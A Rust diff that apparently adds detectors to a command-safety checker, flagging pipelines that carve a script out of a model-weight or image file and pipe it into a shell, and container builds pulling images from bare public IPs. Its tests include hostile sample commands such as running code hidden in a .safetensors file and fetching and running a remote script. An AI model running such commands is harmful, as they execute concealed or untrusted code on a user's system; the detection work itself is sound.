@@ -136,6 +136,49 @@ pub(super) fn redirects(command: &str) -> bool {
         })
 }
 
+/// Whether the part of a pipeline before a shell reads a file that is no script: weights, arrays, pictures.
+pub(super) fn weights_as_script(text: &str) -> bool {
+    const ENDINGS: [&str; 16] = [
+        ".safetensors",
+        ".gguf",
+        ".ggml",
+        ".onnx",
+        ".pt",
+        ".pth",
+        ".ckpt",
+        ".bin",
+        ".npy",
+        ".npz",
+        ".h5",
+        ".keras",
+        ".pkl",
+        ".png",
+        ".jpg",
+        ".tflite",
+    ];
+    const READS: [&str; 14] = [
+        "sed", "tail", "head", "dd", "cut", "awk", "cat", "strings", "tac", "rev", "grep", "xxd", "perl",
+        "tr",
+    ];
+    let first = text.split('|').next().unwrap_or("");
+    let reads = pipelines(first).last().is_some_and(|part| READS.contains(&program(part)));
+    reads
+        && first.split_whitespace().any(|word| {
+            let word = word.trim_matches(['"', '\'', ')', '(']);
+            ENDINGS.iter().any(|end| word.ends_with(end))
+        })
+}
+
+/// Whether a recipe of a container builds on an image from a bare address, or takes files from one.
+pub(super) fn foreign_image(command: &str) -> bool {
+    let line = command.trim();
+    let image = line.strip_prefix("FROM ").or_else(|| line.split_once("--from=").map(|(_, rest)| rest));
+    let host = image.and_then(|image| image.split([':', '/', ' ']).next()).unwrap_or("");
+    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
+    matches!(parts[..], [Some(first), Some(second), Some(_), Some(_)]
+        if first != 127 && first != 10 && (first, second) != (192, 168) && !(first == 172 && (16..32).contains(&second)))
+}
+
 /// The schemes and hosts of the addresses that a variable of this name is given.
 fn given(command: &str, name: &str) -> Vec<(String, String)> {
     let addresses = command.split(name).skip(1).filter_map(|rest| {
@@ -320,6 +363,12 @@ mod tests {
         );
         assert!(!redirects("ENV HTTP_PROXY=http://proxy.example:3128 HF_ENDPOINT=https://mirror.example"));
         assert!(!redirects("export http_proxy=http://10.0.0.1:3128"));
+        assert!(weights_as_script("sed -e '1,/^#--$/d' model.safetensors | sh"));
+        assert!(!weights_as_script("cat install.sh | sh") && !weights_as_script("ls *.bin | sh"));
+        assert!(
+            foreign_image("FROM 198.51.100.7:5000/base") && foreign_image("COPY --from=198.51.100.7/x /a /b")
+        );
+        assert!(!foreign_image("FROM python:3.11") && !foreign_image("COPY --from=0 /a /b"));
         assert!(!hooks("NODE_OPTIONS=--max-old-space-size=4096"));
         assert!(fetched("ADD http://192.0.2.9/a /a\nRUN sh /a").is_some());
         assert!(
